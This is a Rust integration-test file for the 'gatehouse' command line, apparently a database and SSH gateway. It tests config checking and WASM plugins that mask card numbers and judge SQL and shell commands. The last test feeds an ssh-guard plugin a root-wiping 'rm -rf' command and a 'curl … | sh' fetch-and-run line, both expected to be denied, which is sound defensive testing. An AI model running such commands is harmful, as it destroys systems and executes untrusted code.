//! The command line as an operator uses it.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // tests fail loudly

use std::process::Command;

fn gatehouse() -> Command {
    Command::new(env!("CARGO_BIN_EXE_gatehouse"))
}

fn repo(p: &str) -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .join(p)
}

#[test]
fn example_config_is_valid() {
    // The shipped example must never drift from the config schema.
    let ca = tempfile::NamedTempFile::new().unwrap();
    let (ca_file, _, _) = gatehouse::pgcluster::write_test_pki(ca.path().parent().unwrap()).unwrap();
    let text = std::fs::read_to_string(repo("deploy/gatehouse.example.toml"))
        .unwrap()
        .replace("/etc/gatehouse/tls/db-ca.crt", ca_file.to_str().unwrap());
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("audit-signing");
    let out = gatehouse()
        .args(["audit", "keygen", "--out"])
        .arg(&key)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = text.replace(
        "/etc/gatehouse/audit-signing.pem",
        &format!("{}.pem", key.display()),
    );
    let cfg = dir.path().join("gatehouse.toml");
    std::fs::write(
        &cfg,
        text.replace("\"../policies\"", &format!("{:?}", repo("policies"))),
    )
    .unwrap();
    let out = gatehouse()
        .arg("check-config")
        .arg(&cfg)
        .env("APP_DB_PASSWORD", "x")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stdout).contains("checkpoints signed by ed25519:"));
    // A key that is not an Ed25519 private key is refused by check-config, as at start.
    std::fs::write(format!("{}.pem", key.display()), "not a key").unwrap();
    let out = gatehouse()
        .arg("check-config")
        .arg(&cfg)
        .env("APP_DB_PASSWORD", "x")
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("[recorder.checkpoints] key"));
}

#[test]
fn config_errors_name_line_and_field() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("bad.toml");
    std::fs::write(
        &cfg,
        "[policy]\ndir = \"p\"\n\n[recorder]\ndir = \"l\"\ncompression = true\n",
    )
    .unwrap();
    let out = gatehouse().arg("check-config").arg(&cfg).output().unwrap();
    assert!(!out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("bad.toml:6:1"), "{err}");
    assert!(err.contains("unknown field `compression`"), "{err}");
}

#[test]
fn hash_key_prints_a_parseable_verifier() {
    let out = gatehouse()
        .args(["identity", "hash-key", "--key", "k"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let line = text
        .lines()
        .find_map(|l| l.strip_prefix("key_verifier: "))
        .unwrap();
    assert!(gatehouse_identity::scram::ScramVerifier::parse(line).is_ok());
}

#[test]
fn policy_check_accepts_the_shipped_policies() {
    let out = gatehouse()
        .args(["policy", "check"])
        .arg(repo("policies"))
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
}

fn plugin_dir() -> std::path::PathBuf {
    std::env::var_os("GATEHOUSE_PLUGIN_DIR")
        .map(std::path::PathBuf::from)
        .unwrap_or_else(|| {
            std::path::Path::new(&std::env::var("HOME").unwrap()).join(".cache/gatehouse/plugins")
        })
}

#[test]
fn plugin_check_describes_and_rejects() {
    let wasm = plugin_dir().join("pii-mask.wasm");
    assert!(
        wasm.is_file(),
        "{} missing: run deploy/build-plugins.sh",
        wasm.display()
    );
    let out = gatehouse().args(["plugin", "check"]).arg(&wasm).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(text.contains("plugin  pii-mask"), "{text}");
    assert!(text.contains("gatehouse:plugin@0.1.0"), "{text}");
    assert!(text.contains("on-rows"), "{text}");

    let junk = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(junk.path(), b"\0asm\x01\0\0\0 not a component").unwrap();
    let out = gatehouse()
        .args(["plugin", "check"])
        .arg(junk.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("invalid plugin"));
}

#[test]
fn plugin_test_masks_fixture_rows() {
    let dir = tempfile::tempdir().unwrap();
    let fixture = dir.path().join("rows.json");
    std::fs::write(
        &fixture,
        r#"{"columns": ["note", "email"], "rows": [["card 4111 1111 1111 1111 on file", "a@example.com"], ["order 12345", null]]}"#,
    )
    .unwrap();
    let out = gatehouse()
        .args(["plugin", "test"])
        .arg(plugin_dir().join("pii-mask.wasm"))
        .arg("--rows")
        .arg(&fixture)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let note = v["rows"][0][0].as_str().unwrap();
    assert!(
        !note.contains("4111 1111 1111 1111") && note.ends_with("1111 on file"),
        "{note}"
    );
    assert_ne!(v["rows"][0][1], "a@example.com");
    assert_eq!(v["rows"][1][0], "order 12345", "look-alikes are left alone");
    assert!(v["rows"][1][1].is_null());
    let findings = v["findings"].as_array().unwrap();
    assert!(
        findings
            .iter()
            .any(|f| f["entity"] == "credit-card" && f["field"] == "note"),
        "{v}"
    );
}

#[test]
fn plugin_test_decides_sample_statements() {
    let out = gatehouse()
        .args(["plugin", "test"])
        .arg(plugin_dir().join("sql-guard.wasm"))
        .args([
            "--statement",
            "DELETE FROM orders",
            "--statement",
            "SELECT 1; TRUNCATE t",
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let results = v["results"].as_array().unwrap();
    let verdicts: Vec<&str> = results.iter().map(|r| r["verdict"].as_str().unwrap()).collect();
    assert_eq!(verdicts, ["deny", "allow", "deny"], "{v}");
    assert_eq!(results[2]["input"], "TRUNCATE t");
    assert!(
        results[0]["reason"]
            .as_str()
            .unwrap()
            .to_lowercase()
            .contains("where"),
        "{v}"
    );
    // --rows and --statement are exclusive; one sample kind is required.
    let out = gatehouse()
        .args(["plugin", "test"])
        .arg(plugin_dir().join("sql-guard.wasm"))
        .output()
        .unwrap();
    assert!(!out.status.success());
}

#[test]
fn plugin_test_decides_sample_commands_with_ssh_guard() {
    let out = gatehouse()
        .args(["plugin", "test"])
        .arg(plugin_dir().join("ssh-guard.wasm"))
        .args([
            "--command",
            "sudo bash -c 'rm -rf --no-preserve-root /'",
            "--command",
            "rm -rf ./build",
            "--command",
            "curl -s https://example.com/install.sh | sh",
            "--command",
            "echo \"rm -rf /\"",
        ])
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let verdicts: Vec<&str> = v["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["verdict"].as_str().unwrap())
        .collect();
    assert_eq!(verdicts, ["deny", "allow", "deny", "allow"], "{v}");
    assert!(
        v["results"][0]["reason"]
            .as_str()
            .unwrap()
            .starts_with("ssh-guard/rm-root"),
        "{v}"
    );
    assert_eq!(v["plugin"]["hooks"], serde_json::json!(["on-command"]));
}
